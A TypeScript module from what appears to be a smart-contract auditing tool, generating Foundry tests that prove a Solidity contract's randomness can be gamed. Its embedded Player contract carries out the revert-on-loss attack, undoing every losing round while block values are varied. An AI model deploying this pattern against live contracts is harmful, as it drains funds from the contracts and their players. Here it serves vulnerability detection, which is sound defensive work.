import { child, childList, nodesIn, text } from "../../hyperkit/ast/astNode.ts";
import type { AstNode } from "../../hyperkit/ast/astNode.ts";
import type { ProofTemplate } from "../proofPlan.ts";
import { declarationOf } from "../solidityAst.ts";
import type { Subject, SubjectFunction } from "../subject.ts";
import { encodeCall } from "../values.ts";

/** The player plays from a contract that undoes every round it would lose. */
export const weakRandomness: ProofTemplate = {
  name: "weakRandomness",
  title: "Weak randomness",
  categories: ["weak-randomness"],
  plan(subject) {
    const [attacked] = subject.attacked;
    if (attacked === undefined) return { kind: "unplanned", reason: "no function that can be called from outside reaches it" };
    const call = encodeCall(attacked, { account: "account", amount: "guess" });
    const stake = stakeOf(subject, attacked);
    return {
      kind: "planned",
      attackTest: "test_nobodyChoosesToWin",
      controlTest: "test_playersWinAndLose",
      assumptions: ["the contract holds 100 ether", ...stake.assumptions, ...call.assumptions],
      missing: call.missing,
      contracts,
      members: `
function test_nobodyChoosesToWin() public {
    vm.deal(address(target), 100 ether);
    Player player = new Player();
    vm.deal(address(player), 10 ether);
    for (uint256 i = 1; i <= 64 && address(player).balance <= 10 ether; i++) {
        _mine(i);
        for (uint256 guess = 0; guess < 10 && address(player).balance <= 10 ether; guess++) {
            try player.playToWin(address(target), _stake(), _call(address(player), guess)) {} catch {}
        }
    }
    uint256 afterwards = address(player).balance;
    require(
        afterwards <= 10 ether,
        string(abi.encodePacked("HyperKit proof: attacker 10 -> ", _ether(afterwards), " ETH without a lost round"))
    );
}

function test_playersWinAndLose() public {
    vm.deal(address(target), 100 ether);
    Player player = new Player();
    bool lost;
    for (uint256 i = 1; i <= 64 && !lost; i++) {
        _mine(i);
        vm.deal(address(player), 10 ether);
        require(player.play(address(target), _stake(), _call(address(player), 0)), "${attacked.name} reverts for a player");
        lost = address(player).balance <= 10 ether;
    }
    require(lost, "${attacked.name} pays every player, so that nothing is left to chance");
}

function _mine(uint256 i) private {
    vm.roll(1000 + i);
    vm.warp(1700000000 + 12 * i);
    // Which of the two there is depends on the version of the EVM.
    (bool set, ) = address(vm).call(abi.encodeWithSignature("prevrandao(bytes32)", keccak256(abi.encode(i))));
    if (!set) (set, ) = address(vm).call(abi.encodeWithSignature("difficulty(uint256)", uint256(keccak256(abi.encode(i)))));
}

function _stake() private ${stake.expression.includes("target") ? "view" : "pure"} returns (uint256) {
    return ${stake.expression};
}

function _call(address account, uint256 guess) private view returns (bytes memory) {
    (account, guess);
    return ${call.expression};
}
`,
    };
  },
};

/** What has to be sent along: what the function compares `msg.value` with. */
function stakeOf(
  subject: Subject,
  { node, payable }: SubjectFunction,
): { readonly expression: string; readonly assumptions: readonly string[] } {
  if (!payable) return { expression: "0", assumptions: [] };
  const modifiers = childList(node, "modifiers").flatMap(
    (used) => subject.declarations.get(declarationOf(child(used, "modifierName")) ?? -1) ?? [],
  );
  for (const part of [node, ...modifiers].flatMap((code) => nodesIn(code))) {
    if (part.nodeType !== "BinaryOperation") continue;
    const [left, right] = [child(part, "leftExpression"), child(part, "rightExpression")];
    const other = isMessageValue(left) ? right : isMessageValue(right) ? left : undefined;
    const expression = other === undefined ? undefined : readAmount(subject, other);
    if (expression !== undefined) return { expression, assumptions: [`each round costs ${expression}, as the contract compares`] };
  }
  return { expression: "1 ether", assumptions: ["each round costs 1 ether"] };
}

function isMessageValue(node: AstNode | undefined): boolean {
  return node?.nodeType === "MemberAccess" && text(node, "memberName") === "value" && text(child(node, "expression"), "name") === "msg";
}

function readAmount({ functions }: Subject, node: AstNode): string | undefined {
  if (node.nodeType === "Literal" && /^[0-9_.e]+$/.test(text(node, "value"))) {
    return `${text(node, "value")} ${text(node, "subdenomination")}`.trim();
  }
  const getter = functions.find((own) => own.inputs.length === 0 && own.node["id"] === declarationOf(node));
  return getter === undefined ? undefined : `target.${getter.name}()`;
}

const contracts = `
contract Player {
    function play(address target, uint256 stake, bytes memory data) public returns (bool ok) {
        (ok, ) = target.call{value: stake}(data);
    }

    /// A round that is lost never took place.
    function playToWin(address target, uint256 stake, bytes calldata data) external {
        uint256 before = address(this).balance;
        require(play(target, stake, data) && address(this).balance > before, "lost");
    }

    receive() external payable {}
}
`;
